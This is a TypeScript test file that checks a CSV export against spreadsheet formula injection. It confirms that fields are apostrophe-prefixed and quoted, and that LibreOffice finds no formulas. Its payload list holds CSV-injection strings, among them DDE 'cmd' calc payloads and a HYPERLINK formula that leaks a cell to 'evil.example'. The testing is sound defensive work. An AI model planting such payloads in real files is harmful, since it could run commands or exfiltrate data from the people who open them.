/**
 * The CSV export never hands a spreadsheet a formula (OWASP "CSV Injection"; ASVS 1.2.10):
 * every field a person typed that starts with = + - @, a tab, a carriage return or NUL is
 * written behind an apostrophe, every text field is quoted (so a ";" list separator cannot cut a
 * field in two), and LibreOffice, which runs formulas in CSV files it opens, finds none.
 */
import { execFileSync } from "child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import * as path from "path";
import { strFromU8, unzipSync } from "fflate";
import { validateWorkbook } from "../../src/engine/validate";
import type { ValidationResult } from "../../src/engine/types";
import { neutralizeFormula, toCsv } from "../../src/report/csv";
import { describeWithLibreOffice } from "../libreoffice/soffice";
import { workbook } from "../helpers/workbook";

/** OWASP's CSV-injection examples and their variants. */
const PAYLOADS = [
  "=1+2",
  "+1+2",
  "-1+2",
  "@SUM(1+2)",
  "\t=1+2",
  "\r=1+2",
  "\u0000=1+2",
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click here")',
  "x;=1+2",
  'x",=1+2',
  "x\n=1+2",
  "x\r\n+1+2",
];

/** Fields of a CSV text as a spreadsheet splits them (RFC 4180 quoting, any separator). */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let fieldText = "";
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        fieldText += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else fieldText += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(fieldText);
      fieldText = "";
    } else if (c === "\n" || c === "\r") {
      if (c === "\r" && text[i + 1] === "\n") i += 1;
      row.push(fieldText);
      rows.push(row);
      row = [];
      fieldText = "";
    } else fieldText += c;
  }
  if (fieldText !== "" || row.length > 0) rows.push([...row, fieldText]);
  return rows;
}

/** A result whose waiver reasons (typed by a person, written whole into a field) are the payloads. */
function resultWithWaivers(): ValidationResult {
  const snapshot = workbook({ members: PAYLOADS.map((name, i) => ({ 廠商名稱: `某研究院 ${i}`, 組織類型: "研究法人" })) });
  const first = validateWorkbook(snapshot);
  const excluded = first.findings.filter((finding) => finding.ruleId === "MEM-EXCLUDED-INSTITUTE");
  expect(excluded).toHaveLength(PAYLOADS.length);
  return validateWorkbook(snapshot, {
    waivers: excluded.map((finding, i) => ({ fingerprint: finding.fingerprint, ruleId: finding.ruleId, reason: PAYLOADS[i]! })),
  });
}

const DANGEROUS_START = /^[=+\-@\t\r\0]/;

describe("neutralizeFormula", () => {
  it.each(PAYLOADS.filter((text) => DANGEROUS_START.test(text)))("puts an apostrophe before %j", (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });
  it.each(["x;=1+2", "text", "'=already", " =1+2", "１２３", ""])("leaves %j as it is", (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });
});

describe("toCsv", () => {
  const result = resultWithWaivers();
  const csv = toCsv(result, "en");

  it.each([",", ";"])("splits into whole fields none of which a spreadsheet would run (separator %j)", (separator) => {
    const rows = parseCsv(csv.replace(/^\uFEFF/, ""), separator);
    for (const row of rows) for (const text of row) expect({ text, dangerous: DANGEROUS_START.test(text) }).toEqual({ text, dangerous: false });
    if (separator === ",") {
      expect(rows.every((row) => row.length === 9)).toBe(true);
      // Each waiver reason comes back whole: behind an apostrophe when it needs one, and with
      // one before = + - @ after a ";", a tab or a line break inside it.
      const reasons = rows.slice(1).map((row) => row[5]!.replace(/([;\t\r\n][\s"']*)'(?=[=+\-@])/g, "$1"));
      for (const payload of PAYLOADS) expect(reasons).toContain(neutralizeFormula(payload));
    }
  });

  it("quotes every text field, so a \";\" separator splits nothing", () => {
    const rows = parseCsv(csv.replace(/^\uFEFF/, ""), ";");
    expect(rows.every((row) => row.length === 1)).toBe(true);
  });
});

describeWithLibreOffice("the CSV opened by LibreOffice (which runs formulas in CSV files)", () => {
  const work = mkdtempSync(path.join(tmpdir(), "alliance-csv-"));
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  /** Opens `csv` in LibreOffice with `separator` and returns the formulas it made. */
  function formulasMade(csv: string, separator: string, name: string): { formulas: string[]; strings: string } {
    const input = path.join(work, `${name}.csv`);
    const out = path.join(work, name);
    writeFileSync(input, csv);
    const profile = mkdtempSync(path.join(tmpdir(), "lo-profile-"));
    execFileSync(
      "soffice",
      [`-env:UserInstallation=file://${profile}`, "--headless", "--norestore", `--infilter=CSV:${separator.charCodeAt(0)},34,76,1`, "--convert-to", "xlsx", "--outdir", out, input],
      { stdio: "pipe", timeout: 120_000 },
    );
    const [file] = readdirSync(out);
    const parts = unzipSync(new Uint8Array(readFileSync(path.join(out, file!))));
    const sheet = strFromU8(parts["xl/worksheets/sheet1.xml"]!);
    return { formulas: [...sheet.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map((match) => match[1]!), strings: strFromU8(parts["xl/sharedStrings.xml"] ?? new Uint8Array()) };
  }

  it.each([",", ";"])("finds no formula in our export (separator %j)", (separator) => {
    const { formulas, strings } = formulasMade(toCsv(resultWithWaivers(), "en"), separator, `ours-${separator.charCodeAt(0)}`);
    expect(formulas).toEqual([]);
    expect(strings).toContain("=cmd|");
  });

  it("does run the same payloads written without neutralising (so the check above can fail)", () => {
    const raw = PAYLOADS.filter((text) => !/[\r\n\0]/.test(text)).map((text) => (/[",]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text)).join("\r\n");
    expect(formulasMade(raw, ",", "raw").formulas.length).toBeGreaterThan(3);
  });
});
